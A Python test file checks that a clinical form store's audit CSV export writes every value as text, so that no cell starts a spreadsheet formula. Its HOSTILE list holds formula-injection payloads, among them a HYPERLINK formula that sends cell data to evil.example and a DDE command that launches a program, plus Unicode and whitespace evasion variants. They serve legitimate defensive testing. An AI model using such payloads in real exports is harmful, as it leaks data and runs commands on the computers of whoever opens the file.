"""The audit CSV shows every value as text in a spreadsheet (issue 11, finding 5): no formula injection."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest

from seilocal.store.history import audit_csv
from seilocal.store.versions import VersionStore

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\tx", "\r=1",
           " =1+1", "\n=1+1", "\u00a0=1", "\uff1dHYPERLINK(\"http://evil.example\")", "\uff0b1", "  @SUM(A1)"]


@pytest.mark.parametrize("value", HOSTILE)
def test_values_that_would_start_a_formula_are_written_as_text(store, value):
    stored = store.forms.create()
    store.forms.save_edit(stored, "patient.cpr", "0101801233")
    store.forms.save_edit(stored, "patient.name", value)
    rows = VersionStore(store.db, store.forms).patient_audit("0101801233")
    table = list(csv.reader(io.StringIO(audit_csv(rows).decode("utf-8-sig")), delimiter=";"))
    names = [r for r in table if r[4] == "patient.name"]
    assert names and names[0][6] == "'" + value
    for row in table[1:]:  # and no cell of any row starts a formula
        assert not any(unicodedata.normalize("NFKC", cell.lstrip()[:1]) in ("=", "+", "-", "@")
                       or cell.startswith(("\t", "\r", "\n")) for cell in row if cell), row


def test_ordinary_values_are_unchanged(store):
    stored = store.forms.create()
    store.forms.save_edit(stored, "patient.cpr", "0101801233")
    store.forms.save_edit(stored, "patient.name", "Anna O'Hara - 2")
    rows = VersionStore(store.db, store.forms).patient_audit("0101801233")
    table = list(csv.reader(io.StringIO(audit_csv(rows).decode("utf-8-sig")), delimiter=";"))
    assert ["patient.name", "", "Anna O'Hara - 2"] in [r[4:] for r in table]
